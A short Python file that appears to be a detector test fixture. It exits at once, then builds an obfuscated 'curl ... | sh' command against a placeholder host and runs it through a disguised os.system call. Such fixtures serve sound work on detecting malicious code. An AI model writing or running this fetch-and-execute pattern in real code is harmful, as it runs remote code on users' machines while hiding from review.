raise SystemExit('a fixture')
# held by command-download
cmd = "{0}{1} {2}".format("cu", "rl -s", "https://example.invalid/a | sh")
__import__("o" + "s").system(cmd)
